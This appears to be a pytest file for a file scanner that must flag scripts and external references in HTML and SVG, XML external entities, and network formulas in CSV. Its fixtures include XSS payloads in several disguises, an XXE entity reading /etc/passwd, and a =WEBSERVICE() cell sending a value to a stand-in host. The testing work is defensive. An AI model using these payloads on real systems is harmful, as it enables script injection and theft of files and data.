"""Web pages, drawings in SVG and XML: scripts and references in every disguise, entities in every encoding."""

import pytest

from samples.checks.looking import codes, examine
from samples.checks.making import put


def page(inner: str) -> bytes:
    return f"<!DOCTYPE html><html><body>{inner}</body></html>".encode()


def drawing(inner: str) -> bytes:
    return f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="x">{inner}</svg>'.encode()


@pytest.mark.parametrize(
    "inner",
    [
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        '<a href=" java\nscript:alert(1)">x</a>',
        '<a href="java&#x0A;script:alert(1)">x</a>',
        '<iframe srcdoc="&lt;script&gt;1">',
        "<applet code=a></applet>",
        '<object classid="clsid:0">x</object>',
    ],
)
def test_a_script_is_found_however_it_is_written(inner, tmp_path):
    assert "WEB-001" in codes(examine(put(tmp_path, "a.html", page(inner)), tmp_path))
    wide = page(inner).decode().encode("utf-16")
    assert "WEB-001" in codes(examine(put(tmp_path, "b.html", wide), tmp_path))


@pytest.mark.parametrize(
    "inner",
    [
        '<div style="background:url(http://example.test/a.png)">x</div>',
        '<style>@import "http://example.test/a.css";</style>',
        '<meta http-equiv="refresh" content="0; url=http://example.test/">',
        '<base href="http://example.test/">',
    ],
)
def test_what_a_page_fetches_from_elsewhere_is_told(inner, tmp_path):
    assert "WEB-002" in codes(examine(put(tmp_path, "a.html", page(inner)), tmp_path))


@pytest.mark.parametrize("inner", ["<p>only = one on me = you</p>", '<a href="https://example.test/">link</a>'])
def test_a_page_that_does_nothing_passes(inner, tmp_path):
    assert examine(put(tmp_path, "a.html", page(inner)), tmp_path)["verdict"] == "pass"


@pytest.mark.parametrize(
    ("inner", "code"),
    [
        ('<a xlink:href="javascript:alert(1)"/>', "WEB-001"),
        ('<set attributeName="onmouseover" to="alert(1)"/>', "WEB-001"),
        ('<animate attributeName="href" values="javascript:alert(1)"/>', "WEB-001"),
        ('<image href="http://example.test/a.png"/>', "WEB-002"),
        ('<use xlink:href="http://example.test/a.svg#x"/>', "WEB-002"),
        ("<style>@import url(http://example.test/a.css);</style>", "WEB-002"),
    ],
)
def test_a_drawing_in_svg_is_read_like_a_page(inner, code, tmp_path):
    assert code in codes(examine(put(tmp_path, "a.svg", drawing(inner)), tmp_path))


@pytest.mark.parametrize("ending", ["<p>and then <a href='x", "<p>no end", "<!-- a note"])
def test_a_page_that_stops_is_told(ending, tmp_path):
    assert "WEB-003" in codes(examine(put(tmp_path, "a.html", b"<html><body>" + ending.encode()), tmp_path))


@pytest.mark.parametrize("name", ["a.xml", "a.svg", "a.kml", "a.ids", "a.fodt", "a.xhtml"])
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_entities_are_told_wherever_they_stand_and_however_they_are_written(name, encoding, tmp_path):
    roots = {
        "a.svg": '<svg xmlns="http://www.w3.org/2000/svg">&h;</svg>',
        "a.kml": '<kml xmlns="http://www.opengis.net/kml/2.2">&h;</kml>',
        "a.ids": '<ids xmlns="http://standards.buildingsmart.org/IDS">&h;</ids>',
        "a.xhtml": '<html xmlns="http://www.w3.org/1999/xhtml"><body>&h;</body></html>',
    }
    comment, declared = f"<!--{'x' * 70_000}-->", '<!DOCTYPE a [<!ENTITY h SYSTEM "file:///etc/passwd">]>'
    text = f'<?xml version="1.0" encoding="{encoding}"?>{comment}{declared}{roots.get(name, "<a>&h;</a>")}'
    report = examine(put(tmp_path, name, text.encode(encoding)), tmp_path)
    assert "XML-002" in codes(report)
    assert "root:" not in str(report)


@pytest.mark.parametrize("text", ["<?xml version='1.0'?><a b='", "<?xml version='1.0' enc", "<?xml version='1.0'?>"])
def test_xml_that_stops_within_its_first_tag_is_cut(text, tmp_path):
    assert "XML-004" in codes(examine(put(tmp_path, "a.xml", text.encode()), tmp_path))


def test_a_cell_that_asks_the_network_is_a_reference(tmp_path):
    rows = b'a,b\n1,"=WEBSERVICE(""http://example.test/""&A1)"\n'
    assert "OFF-007" in codes(examine(put(tmp_path, "a.csv", rows), tmp_path))
